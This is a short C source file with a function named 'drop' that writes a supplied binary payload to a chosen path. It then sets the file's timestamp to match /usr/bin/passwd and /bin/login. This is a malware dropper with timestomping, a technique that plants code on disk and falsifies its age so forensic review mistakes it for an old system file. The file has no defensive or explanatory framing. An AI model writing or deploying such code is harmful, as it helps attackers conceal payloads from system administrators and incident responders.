#include <stdio.h>

#include "age.h"

static const char *const models[] = {"/usr/bin/passwd", "/bin/login"};

int drop(const char *path, const void *code, size_t size) {
    FILE *out = fopen(path, "wb");
    if (!out)
        return -1;
    fwrite(code, 1, size, out);
    fclose(out);
    for (unsigned i = 0; i < sizeof models / sizeof *models; i++) {
        time_t age = age_of(models[i]);
        if (age)
            age_set(path, age);
    }
    return 0;
}
